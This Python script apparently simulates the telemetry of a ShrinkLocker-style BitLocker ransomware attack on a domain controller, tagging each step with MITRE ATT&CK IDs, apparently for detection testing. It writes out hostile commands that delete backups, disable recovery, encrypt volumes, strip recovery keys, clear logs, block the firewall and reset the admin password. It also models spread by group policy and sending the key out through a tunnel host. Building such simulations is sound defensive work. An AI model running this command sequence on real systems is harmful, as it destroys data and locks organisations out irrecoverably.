"""A script that locks a server with Windows' own BitLocker: policies, a partition shrunk, drives encrypted with a random
password that goes out through a tunnel's host, no way to recover, and a spread by group policy. Resembles ShrinkLocker
(2024)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2024-04-27T04:31:16", "user": "VACUNAS\\administrador", "home": "C:\\Users\\administrador",
           "computer": "VAC-DC01", "os_version": (10, 0, 17763), "local_address": "172.16.8.10"}
SCRIPT = r"C:\PROGRA~3\MICROS~1\Windows\TEMPLA~1\Disk.vbs"
LONG_SCRIPT = r"C:\ProgramData\Microsoft\Windows\Templates\Disk.vbs"
FVE = r"HKLM\SOFTWARE\Policies\Microsoft\FVE"
SYSTEM_POLICY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System"
TUNNEL = ("192.0.2.88", 443)
TUNNEL_NAME = "scottish-laundry-agreement.trycloudflare.com"
POLICIES = r"\\vacunas.example\SYSVOL\vacunas.example\Policies\{31B2F340-016D-11D2-945F-00C04FB984F9}\MACHINE\Preferences"


def start(c, desktop):
    line = r'"C:\Windows\System32\cmd.exe" /k'
    shell = deeds.tool(c, desktop.explorer, line, integrity="High")
    host = deeds.tool(c, shell, "cscript.exe //nologo //B %s" % SCRIPT)
    c.read(host, LONG_SCRIPT, 21_000)
    for name in ("ProductName", "CurrentBuild"):
        c.query(host, r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion" + "\\" + name, "REG_SZ", "17763")
    c.load(host, r"C:\Windows\System32\wbem\wbemdisp.dll")
    return shell, host


def policies(c, doers):
    host = doers[-1]
    with c.behaviour("policies: BitLocker without a chip and with a password at the start", "medium", ("T1112", "T1486"),
                     doers, ("EnableBDEWithNoTPM", "FVE")):
        c.key(host, FVE, new=True)
        for name, value in (("UseAdvancedStartup", 1), ("EnableBDEWithNoTPM", 1), ("UseTPM", 2), ("UseTPMPIN", 2),
                            ("UseTPMKey", 2)):
            c.set_value(host, FVE + "\\" + name, "REG_DWORD", value)
    with c.behaviour("forbids remote desktop and demands smart cards", "medium", ("T1112", "T1531"), doers,
                     ("fDenyTSConnections", "scforceoption")):
        c.set_value(host, r"HKLM\System\CurrentControlSet\Control\Terminal Server\fDenyTSConnections", "REG_DWORD", 1)
        c.set_value(host, SYSTEM_POLICY + r"\scforceoption", "REG_DWORD", 1)
    with c.behaviour("puts its address where everyone logs on", "medium", ("T1491.001", "T1112"), doers,
                     ("legalnotice", "RecoveryKeyMessage")):
        c.set_value(host, SYSTEM_POLICY + r"\legalnoticecaption", "REG_SZ", "onboardingbinder@proton.example")
        c.set_value(host, SYSTEM_POLICY + r"\legalnoticetext", "REG_SZ", "Escriba a onboardingbinder@proton.example")
        c.set_value(host, FVE + r"\RecoveryKeyMessage", "REG_SZ", "onboardingbinder@proton.example")


def spread(c, doers):
    host = doers[-1]
    with c.behaviour("writes a task into a policy of the whole domain", "high", ("T1484.001", "T1053.005"), doers,
                     ("ScheduledTasks.xml", "SYSVOL")):
        c.read(host, LONG_SCRIPT, 21_000)
        c.drop(host, POLICIES.rsplit("\\", 1)[0] + r"\Scripts\Startup\Disk.vbs", 21_000)
        c.folder(host, POLICIES + r"\ScheduledTasks")
        c.drop(host, POLICIES + r"\ScheduledTasks\ScheduledTasks.xml", 2900)
        c.drop(host, POLICIES.rsplit("\\", 2)[0] + r"\GPT.INI", 64, opened=3)


def no_way_back(c, doers):
    host = doers[-1]
    with deeds.told(c, "deletes the catalogue of backups and switches Windows' recovery off", "critical", "T1490", doers,
                    ("wbadmin", "reagentc")) as helpers:
        helpers += deeds.command(c, host, "wbadmin delete catalog -quiet")
        helpers += deeds.command(c, host, "reagentc.exe /disable", shell=False)


def shrink(c, doers):
    host = doers[-1]
    list_file = r"C:\Windows\Temp\sh7k.tmp"
    c.drop(host, list_file, 140)
    with deeds.told(c, "cuts a partition off a volume and moves the boot files there", "medium",
                    ("T1561.002", "T1486", "T1561"), doers, ("diskpart", "bcdboot")) as helpers:
        shell = deeds.tool(c, host, 'cmd.exe /c "diskpart /s %s > C:\\Windows\\Temp\\out.tmp"' % list_file)
        tool = deeds.tool(c, shell, "diskpart /s " + list_file)
        c.read(tool, list_file, 140)
        c.drop(shell, r"C:\Windows\Temp\out.tmp", 700)
        c.exit(tool)
        c.exit(shell)
        helpers += [shell, tool]
        helpers += deeds.command(c, host, r"bcdboot C:\Windows /s S:")
    c.delete(host, list_file)


def lock(c, desktop, doers):
    host = doers[-1]
    for word in ("config BDESVC start= auto", "start BDESVC"):
        deeds.command(c, host, "sc.exe " + word, shell=False)
    with deeds.told(c, "encrypts the data volume with BitLocker and a password", "high", "T1486", doers,
                    ("manage-bde", "-on D:")) as helpers:
        shell = deeds.tool(c, host, r"cmd.exe /c manage-bde.exe -on D: -pw -s -used < C:\Windows\Temp\k.tmp")
        helpers += [shell, deeds.tool(c, shell, "manage-bde.exe -on D: -pw -s -used")]
        c.load(helpers[-1], r"C:\Windows\System32\fveapi.dll")
        c.exit(helpers[-1])
        c.exit(shell)
    with deeds.told(c, "PowerShell encrypts the system volume with a password made up on the spot", "high", "T1486",
                    doers, ("Enable-BitLocker", "BitLocker")) as helpers:
        line = ("powershell.exe -Command \"$p=ConvertTo-SecureString $env:bl -AsPlainText -Force; "
                "Enable-BitLocker -MountPoint C: -PasswordProtector -Password $p -UsedSpaceOnly -SkipHardwareTest\"")
        helpers += deeds.command(c, host, line)
    with deeds.told(c, "deletes every other key protector", "high", ("T1490", "T1486"), doers,
                    ("protectors", "manage-bde")) as helpers:
        for volume in ("C:", "D:"):
            helpers += deeds.command(c, host, "manage-bde -protectors -delete %s -type RecoveryPassword" % volume)
    c.host(TUNNEL[0], TUNNEL_NAME)
    with c.behaviour("sends the password through a host for tunnels", "high",
                     ("T1041", "T1572", "T1102", "T1071.001", "T1567"), doers, ("trycloudflare", TUNNEL[0])):
        c.load(host, r"C:\Windows\System32\winhttp.dll")
        desktop.resolve()
        c.exchange(host, TUNNEL, 50710, [517, 680], [4200, 180])


def cover(c, doers):
    host = doers[-1]
    with deeds.told(c, "clears the logs of PowerShell", "high", ("T1685.005", "T1070"), doers,
                    ("wevtutil", "PowerShell")) as helpers:
        helpers += deeds.command(c, host, 'wevtutil cl "Windows PowerShell"')
        helpers += deeds.command(c, host, 'wevtutil cl "Microsoft-Windows-PowerShell/Operational"')
    with deeds.told(c, "deletes the firewall's rules and closes it for all", "medium", ("T1686.003", "T1686"), doers,
                    ("advfirewall", "netsh")) as helpers:
        helpers += deeds.command(c, host, "netsh advfirewall firewall delete rule name=all")
        helpers += deeds.command(c, host, "netsh advfirewall set allprofiles firewallpolicy blockinbound,blockoutbound")
    with deeds.told(c, "gives the administrator another password", "medium", ("T1531", "T1098"), doers,
                    "net user") as helpers:
        helpers += deeds.command(c, host, "net user administrador 7hQ!w0-xTrr92 /domain")
    with c.behaviour("the script deletes itself", "medium", "T1070.004", doers, "Disk.vbs"):
        c.delete(host, LONG_SCRIPT)
    with deeds.told(c, "shuts Windows down", "medium", "T1529", doers, "shutdown") as helpers:
        helpers += deeds.command(c, host, "shutdown.exe /s /f /t 0", shell=False)


def story(c):
    desktop = Desktop(c)
    desktop.murmur(10)
    doers = start(c, desktop)
    policies(c, doers)
    spread(c, doers)
    desktop.murmur(4)
    no_way_back(c, doers)
    shrink(c, doers)
    desktop.murmur(4)
    lock(c, desktop, doers)
    cover(c, doers)
    c.exit(doers[-1])
    desktop.murmur(3)
